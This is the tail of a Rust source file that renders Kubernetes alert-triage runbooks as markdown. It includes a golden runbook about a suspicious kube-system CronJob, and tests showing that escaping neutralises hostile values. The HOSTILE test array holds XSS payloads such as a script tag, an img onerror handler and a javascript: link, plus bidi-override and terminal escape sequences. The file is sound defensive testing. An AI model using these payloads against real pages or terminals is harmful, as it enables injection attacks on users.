- **24 h** 3 writes: 1 ok, 2 failed (403); 1 dry run; probing; 100 % of 24 h; precursors: not looked at (--deep)
  - precursor: 2026-11-24 03:05:00Z  `create clusterrolebindings eve-admin` -> `x:1`
  - request: 2026-11-24 03:09:00Z  `create kube-system/- failed 403` -> `x:1`
- **30 d** none in 30 days (dump covers 28.7 of 30); anomalous; new here: namespace, registry; dump covers 28.7 of 30 days; CronJobs in this namespace are also written by `eks:addon-manager (2)`
- **since** jobs started: 76 (first 03:13, last 04:28); pods 76; deleted: no: probably still present at the end of the dump
- **also** upstream: match; dedup merged 2 events; suppressed by upstream: no; alert 9f86d081884c7d65; rule `Kubernetes.CronJob.CreatedOrModified`; hits 2; title `[eve] created Kubernetes CronJob [kube-proxy-health] in [kube-system]`
- **next**
  - `kubectl -n kube-system get cronjob kube-proxy-health -o yaml`
  - delete the CronJob before its pods
- **would change it**
  - an owner who confirms that eve was to create this CronJob, by name

## Who

| #   | user  | cluster   | worst            | alerts | hits | namespaces    |
| --- | ----- | --------- | ---------------- | ------ | ---- | ------------- |
| 1   | `eve` | `prod-eu` | MALICIOUS-LIKELY | 1      | 2    | `kube-system` |

## CronJobs seen only through their controllers

- CronJob `default`/`ghost`: cluster `edge`; Jobs 3; first 2026-11-20 00:00:00Z; last 2026-11-20 02:00:00Z; Jobs of a CronJob whose creation is not in the dump -> `x:1`

## Suppressed

None.
";

    const HOSTILE: [&str; 18] = [
        "`",
        "``` x ``",
        "`` ` ``\\",
        "](javascript:x)",
        "[a](https://x.example)",
        "![a](https://x.example/a.png)",
        "<script>alert(1)</script>",
        "</code></td><img src=x onerror=alert(1)>",
        "|",
        "\\|",
        "a\\\\| `b` | <b>c</b>",
        "\u{202E}gnp",
        "a\nb\r\n# c",
        "\n```\n<b>\n",
        "- x",
        "1. x",
        "\u{1b}[2J\u{9b}31m\u{7}",
        "*a* __b__ ~~c~~ &lt; $x$ www.x.example @a",
    ];

    fn written(value: &Value) -> String {
        let mut out = Vec::new();
        let rows = |key: &str| -> Rows<'_> { Box::new(list(value, key).iter().cloned()) };
        let lists = ["users", "controller_only", "suppressed"].map(rows);
        runbook(value, lists, &mut rows("alerts").map(|alert| Ok(alert.to_string())), &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    /// The example with every string replaced.
    fn filled(value: &Value, with: &str) -> Value {
        match value {
            Value::String(_) => with.into(),
            Value::Array(all) => all.iter().map(|item| filled(item, with)).collect(),
            Value::Object(members) => {
                Value::Object(members.iter().map(|(key, item)| (key.clone(), filled(item, with))).collect())
            }
            other => other.clone(),
        }
    }

    /// A line without its code spans, found as CommonMark finds them, and the content of these.
    fn parted(line: &str) -> (String, Vec<String>) {
        let (mut bare, mut spans, mut rest) = (String::new(), Vec::new(), line);
        while let Some(at) = rest.find('`') {
            bare.push_str(&rest[..at]);
            let opened = rest[at..].trim_start_matches('`');
            let fence = rest.len() - at - opened.len();
            let mut runs = opened.match_indices('`').map(|(at, _)| at).filter(|at| !opened[..*at].ends_with('`'));
            let end = runs.find(|at| opened[*at..].len() - opened[*at..].trim_start_matches('`').len() == fence);
            let end = end.unwrap_or_else(|| panic!("no end: {line}"));
            spans.push(opened[..end].to_owned());
            rest = &opened[end + fence..];
        }
        (bare + rest, spans)
    }

    #[test]
    fn the_example_reads_as_it_should() {
        let value: Value = serde_json::from_str(EXAMPLE).unwrap();
        assert_eq!(written(&value), GOLDEN);
    }

    #[test]
    fn hostile_values_stay_text_wherever_they_stand() {
        let example: Value = serde_json::from_str(EXAMPLE).unwrap();
        let shape = written(&example).lines().count();
        for hostile in HOSTILE {
            let page = written(&filled(&example, hostile));
            // No value adds a line. (Labels of settings, and the meaning of a verdict, do not appear here.)
            assert_eq!(page.lines().count(), shape, "{page}");
            assert!(!page.chars().any(|c| c != '\n' && is_hidden(c)), "{page:?}");
            for line in page.lines() {
                let (bare, spans) = parted(line);
                assert!(!bare.contains(['<', '[', ']', '_', '~', '&', '$', '@', '!']), "{line}");
                assert!(!bare.replace("->", "").contains('>') && !bare.replace("**", "").contains('*'), "{line}");
                assert!(!bare.contains("www.") && !bare.contains("//"), "{line}");
                let cells = line.strip_prefix('|').map_or(0, |row| row.replace("\\|", "").matches('|').count());
                assert!(cells == 0 || cells == 7 && !line.contains("\\\\|"), "{line}");
                assert!(cells > 0 || spans.iter().all(|span| span.len() < 2 * LIMIT), "{line}");
                let item = line.trim_start().trim_start_matches("- ");
                assert!(!line.trim_start().starts_with("- - ") && !item.starts_with("1. "), "{line}");
            }
        }
    }

    #[test]
    fn code_spans_cannot_be_closed_from_inside() {
        let cases = [
            ("a", "`a`"),
            ("", "-"),
            ("a`b", "``a`b``"),
            ("`", "`` ` ``"),
            ("a```", "```` a``` ````"),
            (" a ", "`  a  `"),
            ("a\nb", "`a\\nb`"),
            ("\u{202E}\u{200B}\u{1b}", "`\\u{202e}\\u{200b}\\u{1b}`"),
        ];
        for (text, shown) in cases {
            assert_eq!(code(text), shown);
        }
    }

    #[test]
    fn only_harmless_words_stand_bare() {
        for text in ["3 writes: 1 ok, 2 failed (403)", "S? x E0 with CJ-BEH-04", "28.7 of 30 days", "(no diff)"] {
            assert_eq!(prose(text), text);
        }
        for text in HOSTILE.into_iter().chain(["x.example", "http://1", "WWW.1", "+ x", "é", "2) x", "  "]) {
            assert!(prose(text).starts_with('`'), "{text}");
        }
        assert_eq!((name("two words").as_str(), name("one").as_str()), ("`two words`", "one"));
    }

    #[test]
    fn a_pipe_in_a_cell_stands_behind_one_backslash() {
        assert_eq!(cell("`a|b`"), "`a\\|b`");
        assert_eq!(cell("`a\\|b`"), "`a\\u{5c}\\|b`");
        assert_eq!(cell("`a\\\\||`"), "`a\\\\u{5c}\\|\\|`");
    }

    #[test]
    fn long_values_are_cut_between_characters() {
        assert_eq!(code(&"é".repeat(300)), format!("`{}`", "é".repeat(300)));
        assert_eq!(code(&"é".repeat(301)), format!("`{}…`", "é".repeat(300)));
        assert_eq!(code(&format!("{}\u{202E}", "a".repeat(299))), format!("`{}…`", "a".repeat(299)));
        let many: Value = serde_json::json!({"groups": vec!["g"; LISTED + 2]});
        assert!(told(&many, &WHO).concat().ends_with("`g`, and 2 more in runbook.json"));
    }

    #[test]
    fn without_alerts_one_sentence_says_so() {
        let page = written(&serde_json::json!({"alerts": [], "coverage_note": "the dump covers 3 days"}));
        assert!(
            page.starts_with("# Runbook\n\nThere is no alert; the dump covers 3 days.\n\n## Who\n\nNone.\n"),
            "{page}"
        );
        assert!(written(&Value::Null).contains("There is no alert; what the dump covers is not known.\n"));
    }

    #[test]
    fn missing_members_are_left_out() {
        let rows = serde_json::json!([{}, null, 7]);
        let page = written(&serde_json::json!({
            "alerts": [{}, {"cronjobs": rows, "reasons": rows, "next": rows, "before": {"events": rows}}],
            "users": rows, "controller_only": rows, "suppressed": rows
        }));
        assert_eq!(page.matches("\n## ").count(), 5, "{page}");
        assert!(page.contains("| 1   | -    | -       | -     | -      | -    | -          |"), "{page}");
    }

    #[test]
    fn what_was_suppressed_is_counted_by_user() {
        let row = serde_json::json!({"namespace": "ops|x", "username": "a`b", "count": 12, "reason": "excluded by *"});
        assert_eq!(suppressed(&row), ["- 12 by ``a`b`` in `ops|x`: `excluded by *`"]);
    }
}
